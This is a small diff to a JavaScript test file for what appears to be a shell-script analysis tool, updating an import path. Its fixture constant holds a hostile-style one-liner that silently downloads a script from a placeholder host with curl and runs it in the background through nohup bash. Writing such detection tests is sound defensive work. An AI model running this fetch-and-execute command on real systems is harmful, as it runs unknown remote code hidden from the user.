@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { gzipSync } from 'node:zlib';
-import { readShell } from '../../../../server/src/artifacts/analysis/files/shell-signals.js';
+import { readShell } from '../../../../server/src/artifacts/analysis/shell/signals.js';
 import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';
 
 const SCRIPT = `[ -f /tmp/x ] && nohup bash -c "$(curl -fsSL https://h.invalid/i.sh)" > /dev/null 2>&1 &`;
